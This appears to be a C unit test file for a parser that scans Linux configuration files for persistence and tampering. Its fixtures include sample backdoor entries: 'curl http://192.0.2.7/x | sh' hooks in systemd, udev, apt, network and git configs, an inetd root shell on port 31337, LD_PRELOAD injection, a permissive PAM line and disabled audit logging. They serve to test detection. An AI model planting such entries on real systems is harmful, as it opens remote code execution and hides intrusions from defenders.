/* SPDX-License-Identifier: Apache-2.0 */
/* Units of systemd, PAM, udev, modules, the linker, hooks, names and logging,
 * as facts. */
#include "unit/parse_kit.h"

#define HAS(...)                                                               \
	(const char *const[])                                                  \
	{                                                                      \
		__VA_ARGS__, NULL                                              \
	}

static void test_unit(void **state UNUSED)
{
	struct parsed p = parse_file(
		"systemd-unit", "/etc/systemd/system/x.service",
		"# a comment\n[Unit]\nDescription=An agent\n\n[Service]\n"
		"User=%i\nEnvironment=\"LD_PRELOAD=/usr/lib/x.so\"\n"
		"ExecStartPre=-/bin/mkdir -p \\\n  /run/x\n"
		"ExecStart=/bin/old\nExecStart=\nExecStart=@/tmp/.x/run x "
		"--%n\n"
		"ExecStop=/bin/sh -c 'curl http://192.0.2.7/x | sh'\n"
		"[Install]\nWantedBy=multi-user.target a.target\n");

	assert_int_equal(p.n_facts, 1);
	hold_fact(&p, 0, "unit", "x.service",
		  HAS("\"type\":\"service\"",
		      "\"exec\":[\"/bin/mkdir -p    /run/x\","
		      "\"/tmp/.x/run x --%n\",\"/bin/sh -c",
		      "\"account\":\"%i\"",
		      "\"wanted_by\":[\"multi-user.target\",\"a.target\"]",
		      "\"description\":\"An agent\"", "\"drop_in\":false",
		      "\"masked\":false", "\"scope\":\"system\"",
		      "\"signs\":[\"fetch\",\"pipe-to-shell\","
		      "\"scratch-path\",\"hidden-path\",\"preload\"]"));
	assert_null(strstr(p.facts[0].detail, "/bin/old"));
	assert_null(strstr(p.facts[0].detail, "\"state\""));
	parsed_release(&p);
	p = parse_file("systemd-unit",
		       "/etc/systemd/system/ssh.service.d/override.conf",
		       "[Service]\nExecStartPre=/opt/x\n");
	hold_fact(&p, 0, "unit", "ssh.service",
		  HAS("\"drop_in\":true", "\"exec\":[\"/opt/x\"]",
		      "\"signs\":[]"));
	parsed_release(&p);
	p = parse_file("systemd-unit",
		       "/home/eve/.config/systemd/user/timers.target.wants/"
		       "u.timer",
		       "[Timer]\nOnBootSec=5\nOnCalendar=daily\n"
		       "Persistent=true\n");
	hold_fact(&p, 0, "unit", "u.timer",
		  HAS("\"type\":\"timer\"", "\"scope\":\"user\"",
		      "\"account_home\":\"eve\"", "\"state\":\"enabled\"",
		      "\"schedule\":\"OnBootSec=5; OnCalendar=daily\""));
	parsed_release(&p);
	p = parse_file("systemd-unit",
		       "/etc/systemd/system/multi-user.target.wants/x.service",
		       "/dev/shm/.x/x.service");
	hold_fact(&p, 0, "unit", "x.service",
		  HAS("\"exec\":[]", "\"state\":\"enabled\"",
		      "\"wanted_by\":[\"multi-user.target\"]",
		      "\"leads_to\":\"/dev/shm/.x/x.service\""));
	parsed_release(&p);
	p = parse_file("systemd-unit", "/etc/systemd/system/auditd.service",
		       "");
	hold_fact(&p, 0, "unit", "auditd.service", HAS("\"masked\":true"));
	parsed_release(&p);
}

static void test_pam(void **state UNUSED)
{
	struct parsed p = parse_file(
		"pam", "/etc/pam.d/sshd",
		"auth [success=1 default=ignore] pam_unix.so nullok\n"
		"@include common-account\n"
		"-session optional /tmp/pam_x.so a=b\n"
		"auth sufficient pam_permit.so\n");

	assert_int_equal(p.n_facts, 4);
	hold_fact(&p, 0, "pam", "sshd",
		  HAS("\"type\":\"auth\"",
		      "\"control\":\"[success=1 default=ignore]\"",
		      "\"module\":\"pam_unix.so\"",
		      "\"arguments\":\"nullok\""));
	hold_fact(&p, 1, "pam", "sshd",
		  HAS("\"control\":\"include\"",
		      "\"module\":\"common-account\""));
	hold_fact(&p, 2, "pam", "sshd",
		  HAS("\"type\":\"session\"", "\"module\":\"/tmp/pam_x.so\""));
	parsed_release(&p);
	p = parse_file("pam", "/etc/pam.conf",
		       "login auth required pam_unix.so\n");
	hold_fact(&p, 0, "pam", "login",
		  HAS("\"type\":\"auth\"", "\"control\":\"required\""));
	parsed_release(&p);
}

static void test_udev(void **state UNUSED)
{
	struct parsed p = parse_file(
		"udev", "/etc/udev/rules.d/99-x.rules",
		"KERNEL==\"sd*\", MODE=\"0660\"\n"
		"ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\", "
		"RUN+=\"/tmp/x %k\"\n"
		"SUBSYSTEM==\"usb\", ATTR{id}==\"a\", \\\n"
		"  PROGRAM=\"/usr/lib/udev/y\", IMPORT{builtin}=\"z\"\n"
		"RUN+=\"/bin/sh -c 'curl x | sh'\"\n");

	assert_int_equal(p.n_facts, 3);
	hold_fact(&p, 0, "udev",
		  "ACTION==\"add\", ENV{MAJOR}==\"1\", ENV{MINOR}==\"8\"",
		  HAS("\"runs\":[\"/tmp/x %k\"]", "\"always\":true",
		      "\"signs\":[\"scratch-path\"]"));
	hold_fact(&p, 1, "udev",
		  "SUBSYSTEM==\"usb\", ATTR{id}==\"a\", IMPORT{builtin}=\"z\"",
		  HAS("\"runs\":[\"/usr/lib/udev/y\"]", "\"always\":false",
		      "\"signs\":[]"));
	hold_fact(&p, 2, "udev", "", HAS("\"always\":true", "pipe-to-shell"));
	parsed_release(&p);
}

static void test_modprobe(void **state UNUSED)
{
	struct parsed p = parse_file("modprobe", "/etc/modprobe.d/x.conf",
				     "install usb /bin/sh -c 'x'\n"
				     "blacklist floppy\n");

	hold_fact(&p, 0, "modprobe", "usb",
		  HAS("\"directive\":\"install\"",
		      "\"value\":\"/bin/sh -c 'x'\""));
	hold_fact(&p, 1, "modprobe", "floppy",
		  HAS("\"directive\":\"blacklist\"", "\"value\":\"\""));
	parsed_release(&p);
	p = parse_file("modprobe", "/etc/modules", "# these\nrootkit a=1\n");
	hold_fact(&p, 0, "modprobe", "rootkit",
		  HAS("\"directive\":\"load\"", "\"value\":\"a=1\""));
	parsed_release(&p);
}

static void test_ld_so(void **state UNUSED)
{
	struct parsed p = parse_file("ld-so", "/etc/ld.so.preload",
				     "# x\n/lib/a.so:/lib/b.so  /lib/c.so\n");

	assert_int_equal(p.n_facts, 3);
	hold_fact(&p, 2, "preload", "/lib/c.so",
		  HAS("\"source\":\"ld.so.preload\""));
	parsed_release(&p);
	p = parse_file("ld-so", "/etc/ld.so.conf.d/x.conf",
		       "include /etc/y.d/*.conf\n/tmp/lib\n");
	hold_fact(&p, 0, "preload", "/etc/y.d/*.conf", NULL);
	hold_fact(&p, 1, "preload", "/tmp/lib",
		  HAS("\"source\":\"ld.so.conf\""));
	parsed_release(&p);
}

static void test_environment(void **state UNUSED)
{
	struct parsed p = parse_file("environment", "/etc/environment",
				     "PATH=\"/usr/bin:/bin:.\"\n"
				     "export LD_PRELOAD=/lib/x.so\n");

	assert_int_equal(p.n_facts, 3);
	hold_fact(&p, 0, "environment", "PATH",
		  HAS("\"value\":\"/usr/bin:/bin:.\"",
		      "\"source\":\"/etc/environment\""));
	hold_fact(&p, 1, "environment", "LD_PRELOAD", NULL);
	hold_fact(&p, 2, "preload", "/lib/x.so",
		  HAS("\"source\":\"environment\""));
	parsed_release(&p);
}

/* A service's file has many, of which few matter to others. */
static void test_service_environment(void **state UNUSED)
{
	struct parsed p = parse_file("environment", "/etc/default/ssh",
				     "SSHD_OPTS=\nLD_PRELOAD=/lib/x.so\n");

	assert_int_equal(p.n_facts, 2);
	hold_fact(&p, 0, "environment", "LD_PRELOAD",
		  HAS("\"source\":\"/etc/default/ssh\""));
	hold_fact(&p, 1, "preload", "/lib/x.so", NULL);
	parsed_release(&p);
}

static void test_apt(void **state UNUSED)
{
	struct parsed p = parse_file(
		"apt-conf", "/etc/apt/apt.conf.d/99x",
		"// a comment\n#clear x;\nAPT::Periodic::Enable \"1\";\n"
		"DPkg { Post-Invoke {\"/opt/x\"; \"curl http://h/x | sh\";};\n"
		"  Options { \"--force\"; } };\n"
		"/* Pre-Invoke */ APT::Update::Pre-Invoke:: \"id\";\n"
		"Acquire::http::Proxy-Auto-Detect \"/tmp/p\";\n");

	assert_int_equal(p.n_facts, 4);
	hold_fact(&p, 0, "hook", "DPkg::Post-Invoke",
		  HAS("\"command\":\"/opt/x\"", "\"signs\":[]"));
	hold_fact(&p, 1, "hook", "DPkg::Post-Invoke",
		  HAS("\"signs\":[\"fetch\",\"pipe-to-shell\"]"));
	hold_fact(&p, 2, "hook", "APT::Update::Pre-Invoke",
		  HAS("\"command\":\"id\""));
	hold_fact(&p, 3, "hook", "Acquire::http::Proxy-Auto-Detect",
		  HAS("\"scratch-path\""));
	parsed_release(&p);
}

static void test_hooks(void **state UNUSED)
{
	struct parsed p = parse_file(
		"package-hooks",
		"/etc/dnf/plugins/post-transaction-actions.d/x.action",
		"# c\n*:any:/tmp/x $name\n");

	hold_fact(&p, 0, "hook", "dnf action",
		  HAS("\"command\":\"/tmp/x $name\"", "scratch-path"));
	parsed_release(&p);
	p = parse_file("package-hooks", "/etc/yum/pluginconf.d/evil.conf",
		       "[main]\nenabled=1\n");
	hold_fact(&p, 0, "hook", "yum plugin",
		  HAS("\"command\":\"evil.conf\""));
	parsed_release(&p);
	p = parse_file("package-hooks", "/etc/dpkg/dpkg.cfg.d/x",
		       "post-invoke=\"/opt/x\"\nforce-confold\n");
	assert_int_equal(p.n_facts, 1);
	hold_fact(&p, 0, "hook", "dpkg post-invoke",
		  HAS("\"command\":\"/opt/x\""));
	parsed_release(&p);
	p = parse_file("logrotate", "/etc/logrotate.d/x",
		       "/var/log/x {\n daily\n postrotate\n"
		       "  wget -q http://192.0.2.7/x\n  sh x\n endscript\n}\n");
	assert_int_equal(p.n_facts, 1);
	hold_fact(&p, 0, "hook", "postrotate",
		  HAS("\"command\":\"wget -q", "\"signs\":[\"fetch\"]"));
	parsed_release(&p);
}

static void test_tables(void **state UNUSED)
{
	struct parsed p = parse_file("run-table", "/etc/inittab",
				     "id:3:initdefault:\n# x\n"
				     "x1:2345:respawn:/tmp/.x/y -d\n");

	assert_int_equal(p.n_facts, 1);
	hold_fact(&p, 0, "hook", "inittab respawn",
		  HAS("\"command\":\"/tmp/.x/y -d\"",
		      "\"signs\":[\"scratch-path\",\"hidden-path\"]"));
	parsed_release(&p);
	p = parse_file("run-table", "/etc/network/interfaces",
		       "iface eth0 inet dhcp\n"
		       "  post-up curl http://192.0.2.7/x | sh\n");
	assert_int_equal(p.n_facts, 1);
	hold_fact(&p, 0, "hook", "interfaces post-up", HAS("pipe-to-shell"));
	parsed_release(&p);
	p = parse_file("run-table", "/etc/inetd.conf",
		       "31337 stream tcp nowait root /bin/sh sh -i\n");
	hold_fact(&p, 0, "hook", "inetd 31337",
		  HAS("\"command\":\"/bin/sh sh -i\""));
	parsed_release(&p);
	p = parse_file("run-table", "/etc/xinetd.d/x",
		       "service x\n{\n server = /dev/shm/x\n}\n");
	hold_fact(&p, 0, "hook", "xinetd server", HAS("scratch-path"));
	parsed_release(&p);
	p = parse_file("run-table", "/etc/hosts.allow",
		       "ALL: 127.0.0.1\nsshd: ALL: spawn (/tmp/x %a) &\n");
	assert_int_equal(p.n_facts, 1);
	hold_fact(&p, 0, "hook", "hosts.allow spawn", HAS("scratch-path"));
	parsed_release(&p);
	p = parse_file("run-table",
		       "/usr/share/dbus-1/system-services/x.service",
		       "[D-BUS Service]\nName=x\nExec=/opt/x\n");
	hold_fact(&p, 0, "hook", "dbus Exec", HAS("\"command\":\"/opt/x\""));
	parsed_release(&p);
	p = parse_file(
		"run-table", "/home/eve/.gitconfig",
		"[user]\n\tname = Eve\n[core]\n\tfsmonitor = \"/tmp/x\"\n"
		"[alias]\n\tst = status\n\tup = !curl h/x | sh\n");
	assert_int_equal(p.n_facts, 2);
	hold_fact(&p, 0, "hook", "git core.fsmonitor",
		  HAS("\"command\":\"/tmp/x\"", "scratch-path"));
	hold_fact(&p, 1, "hook", "git alias.up", HAS("pipe-to-shell"));
	parsed_release(&p);
}

static void test_autostart(void **state UNUSED)
{
	struct parsed p = parse_file(
		"autostart", "/home/eve/.config/autostart/x.desktop",
		"[Desktop Entry]\nName=Updates\nExec=/tmp/.x/a\nHidden=true\n"
		"[Desktop Action y]\nExec=/bin/true\n");

	hold_fact(&p, 0, "autostart", "Updates",
		  HAS("\"exec\":\"/tmp/.x/a\"", "\"account\":\"eve\"",
		      "\"hidden\":true", "scratch-path"));
	parsed_release(&p);
}

static void test_python(void **state UNUSED)
{
	static const char path[] = "/usr/lib/python3/dist-packages/zz.pth";
	struct parse_input in = {.content = bytes_str("/opt/lib\n./x\n"),
				 .path = bytes_str(path)};
	struct parsed p = parse_file(
		"script", path,
		"/opt/lib\nimport os; os.system('id'); exec(open('x'))\n");

	hold_fact(&p, 0, "script", path,
		  HAS("\"role\":\"python-start\"",
		      "\"signs\":[\"interpreter\"]", "\"sample\":\"import"));
	parsed_release(&p);
	/* Folders alone run nothing. */
	assert_null(parser_guess(&in));
	p = parse_file("script", "/usr/lib/python3.11/sitecustomize.py",
		       "try:\n    import apport\nexcept ImportError:\n"
		       "    pass\n");
	hold_fact(&p, 0, "script", "/usr/lib/python3.11/sitecustomize.py",
		  HAS("\"role\":\"python-start\"", "\"signs\":[]"));
	parsed_release(&p);
}

static void test_names(void **state UNUSED)
{
	struct parsed p = parse_file("hosts", "/etc/hosts",
				     "127.0.0.1 localhost\n"
				     "192.0.2.7\tdeb.example a # pinned\n"
				     "::1 ip6-localhost\n");

	assert_int_equal(p.n_facts, 4);
	hold_fact(&p, 1, "hosts_entry", "deb.example",
		  HAS("\"address\":\"192.0.2.7\""));
	hold_fact(&p, 2, "hosts_entry", "a", NULL);
	parsed_release(&p);
	p = parse_file("resolver", "/etc/resolv.conf",
		       "; x\nnameserver 192.0.2.53\nsearch a.example b\n");
	hold_fact(
		&p, 0, "resolver", "nameserver",
		HAS("\"value\":\"192.0.2.53\"", "\"source\":\"resolv.conf\""));
	hold_fact(&p, 1, "resolver", "search",
		  HAS("\"value\":\"a.example b\""));
	parsed_release(&p);
	p = parse_file("resolver", "/etc/nsswitch.conf",
		       "passwd:   files systemd\nhosts: files x dns\n");
	hold_fact(&p, 1, "resolver", "hosts",
		  HAS("\"value\":\"files x dns\"",
		      "\"source\":\"nsswitch.conf\""));
	parsed_release(&p);
}

static void test_logging(void **state UNUSED)
{
	struct parsed p =
		parse_file("log-setting", "/etc/systemd/journald.conf",
			   "[Journal]\n#Storage=auto\nStorage=none\n");

	assert_int_equal(p.n_facts, 1);
	hold_fact(&p, 0, "logging", "journald Storage",
		  HAS("\"value\":\"none\"", "\"source\":\"journald.conf\""));
	parsed_release(&p);
	p = parse_file("log-setting", "/etc/selinux/config",
		       "SELINUX=disabled\nSELINUXTYPE=targeted\n");
	hold_fact(&p, 0, "logging", "selinux",
		  HAS("\"value\":\"disabled\"", "\"source\":\"selinux\""));
	parsed_release(&p);
	p = parse_file("log-setting", "/etc/audit/auditd.conf",
		       "write_logs = no\n");
	hold_fact(&p, 0, "logging", "auditd write_logs",
		  HAS("\"value\":\"no\""));
	parsed_release(&p);
	p = parse_file("log-setting", "/etc/ufw/ufw.conf", "ENABLED=no\n");
	hold_fact(&p, 0, "logging", "ufw ENABLED", HAS("\"value\":\"no\""));
	parsed_release(&p);
	p = parse_file("audit-rules", "/etc/audit/rules.d/x.rules",
		       "-D\n-e 0\n-a never,task\n-w /etc/passwd -p wa\n");
	hold_fact(&p, 0, "logging", "audit delete all", NULL);
	hold_fact(&p, 1, "logging", "audit enabled", HAS("\"value\":\"0\""));
	hold_fact(&p, 2, "logging", "audit rule",
		  HAS("\"value\":\"-a never,task\""));
	hold_fact(&p, 3, "logging", "audit rule",
		  HAS("\"source\":\"audit.rules\""));
	parsed_release(&p);
}

static void test_rsyslog(void **state UNUSED)
{
	struct parsed p = parse_file(
		"rsyslog", "/etc/rsyslog.d/10-x.conf",
		"module(load=\"imuxsock\")\n*.* @@log.example:514\n"
		"auth,authpriv.*\t/var/log/auth.log\n"
		":msg, contains, \"192.0.2.7\" stop\n& ~\n"
		"action(type=\"omfwd\" target=\"log\")\n*.* ^/tmp/x\n"
		"*.emerg :omusrmsg:*\n");

	assert_int_equal(p.n_facts, 7);
	hold_fact(&p, 0, "logging", "rsyslog setting", NULL);
	hold_fact(&p, 1, "logging", "rsyslog forward",
		  HAS("\"value\":\"*.* @@log.example:514\""));
	hold_fact(&p, 2, "logging", "rsyslog file", NULL);
	hold_fact(&p, 3, "logging", "rsyslog discard", HAS("192.0.2.7"));
	hold_fact(&p, 4, "logging", "rsyslog discard", NULL);
	hold_fact(&p, 5, "logging", "rsyslog forward", NULL);
	hold_fact(&p, 6, "logging", "rsyslog program", NULL);
	parsed_release(&p);
}

static void test_walls(void **state UNUSED)
{
	struct parsed p = parse_file(
		"ufw-rules", "/etc/ufw/user.rules",
		"*filter\n### tuple ### allow tcp 22 0.0.0.0/0 any "
		"0.0.0.0/0 in\n-A ufw-user-input -p tcp --dport 22 -j ACCEPT\n"
		"-A ufw-user-input -j ACCEPT\n");

	assert_int_equal(p.n_facts, 2);
	hold_fact(&p, 0, "logging", "ufw rule",
		  HAS("allow tcp 22", "\"source\":\"ufw\""));
	hold_fact(&p, 1, "logging", "ufw accepts all", NULL);
	parsed_release(&p);
	p = parse_file("firewalld-zone", "/etc/firewalld/zones/public.xml",
		       "<?xml version=\"1.0\"?>\n<zone target=\"ACCEPT\">\n"
		       "  <service name=\"ssh\"/>\n</zone>\n");
	assert_int_equal(p.n_facts, 2);
	hold_fact(&p, 0, "logging", "firewalld zone public",
		  HAS("ACCEPT", "\"source\":\"firewalld\""));
	parsed_release(&p);
	p = parse_file("apparmor-off", "/etc/apparmor.d/disable/usr.sbin.x",
		       "profile x {}\n");
	hold_fact(&p, 0, "logging", "apparmor usr.sbin.x",
		  HAS("\"value\":\"disabled\""));
	parsed_release(&p);
}

static void test_rotated(void **state UNUSED)
{
	struct parsed p =
		parse_file("logrotate-status", "/var/lib/logrotate/status",
			   "logrotate state -- version 2\n"
			   "\"/var/log/auth.log\" 2026-1-5-6:25:7\n"
			   "\"/var/log/old.log\" 2020-12-31\n\"/x\" junk\n");

	assert_int_equal(p.n_events, 2);
	hold_event(&p, 0, "2026-01-05T06:25:07Z", "log.rotated", "logrotate",
		   "/var/log/auth.log");
	hold_event(&p, 1, "2020-12-31T00:00:00Z", "log.rotated", "logrotate",
		   "/var/log/old.log");
	assert_int_equal(p.n_facts, 2);
	hold_fact(&p, 0, "logging", "rotated /var/log/auth.log",
		  HAS("\"value\":\"2026-1-5-6:25:7\"",
		      "\"source\":\"logrotate\""));
	assert_int_equal(p.n_problems, 1);
	parsed_release(&p);
}

static void test_histories(void **state UNUSED)
{
	struct parsed p = parse_file("bash", "/home/eve/.bash_history",
				     "id\n#1700000000\nls\n");

	assert_int_equal(p.n_events, 2);
	assert_int_equal(p.n_facts, 1);
	hold_fact(&p, 0, "history", "/home/eve/.bash_history",
		  HAS("\"account\":\"eve\"", "\"size\":18", "\"lines\":2"));
	parsed_release(&p);
	p = parse_file("bash", "/root/.bash_history", "");
	hold_fact(&p, 0, "history", "/root/.bash_history",
		  HAS("\"account\":\"root\"", "\"size\":0", "\"lines\":0"));
	parsed_release(&p);
	p = parse_file("zsh", "/root/.zsh_history", ": 1700000000:0;id\n");
	hold_fact(&p, 0, "history", "/root/.zsh_history", HAS("\"lines\":1"));
	parsed_release(&p);
	p = parse_file("fish", "/root/.local/share/fish/fish_history",
		       "- cmd: id\n  when: 1700000000\n");
	hold_fact(&p, 0, "history", "/root/.local/share/fish/fish_history",
		  HAS("\"lines\":1"));
	parsed_release(&p);
	p = parse_file("client-history", "/root/.mysql_history", "select 1;\n");
	hold_fact(&p, 0, "history", "/root/.mysql_history", HAS("\"lines\":1"));
	parsed_release(&p);
}

#define RECORD 384u

static void put_login(uint8_t *p, uint32_t s)
{
	p[0] = 7;
	memcpy(p + 8, "pts/0", 5);
	memcpy(p + 44, "eve", 3);
	for (unsigned i = 0; i < 4; i++)
		p[340 + i] = (uint8_t)(s >> (8 * i));
}

/* One wiped, time once backwards, and a bit too much at the end. */
static void test_login_records(void **state UNUSED)
{
	uint8_t records[5 * RECORD + 7] = {0};
	struct parse_input in = {.content = bytes_of(records, sizeof records),
				 .path = bytes_str("/var/log/wtmp"),
				 .mtime_ns = TIME_UNKNOWN,
				 .taken_ns = TIME_UNKNOWN};
	struct parsed p;
	struct err err;

	put_login(records, 1700000000);
	put_login(records + 2 * RECORD, 1700000200);
	put_login(records + 3 * RECORD, 1700000100);
	put_login(records + 4 * RECORD, 1700000300);
	assert_ok(parse_keep(parser_find("utmp"), &in, &p, &err), err);
	assert_int_equal(p.n_events, 5);
	assert_int_equal(p.n_facts, 1);
	hold_fact(&p, 0, "login_record", "/var/log/wtmp",
		  HAS("\"format\":\"utmp\"", "\"size\":1927", "\"records\":5",
		      "\"zeroed\":1", "\"torn\":true", "\"backwards\":1",
		      "\"first\":1700000000000000000",
		      "\"last\":1700000300000000000"));
	parsed_release(&p);
	p = parse_file("utmp", "/var/log/wtmp", "");
	assert_int_equal(p.n_events, 0);
	hold_fact(&p, 0, "login_record", "/var/log/wtmp",
		  HAS("\"size\":0", "\"records\":0", "\"torn\":false"));
	assert_null(strstr(p.facts[0].detail, "\"first\""));
	parsed_release(&p);
}

int main(void)
{
	static const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_unit),
		cmocka_unit_test(test_pam),
		cmocka_unit_test(test_udev),
		cmocka_unit_test(test_modprobe),
		cmocka_unit_test(test_ld_so),
		cmocka_unit_test(test_environment),
		cmocka_unit_test(test_service_environment),
		cmocka_unit_test(test_apt),
		cmocka_unit_test(test_hooks),
		cmocka_unit_test(test_tables),
		cmocka_unit_test(test_autostart),
		cmocka_unit_test(test_python),
		cmocka_unit_test(test_names),
		cmocka_unit_test(test_logging),
		cmocka_unit_test(test_rsyslog),
		cmocka_unit_test(test_walls),
		cmocka_unit_test(test_rotated),
		cmocka_unit_test(test_histories),
		cmocka_unit_test(test_login_records),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
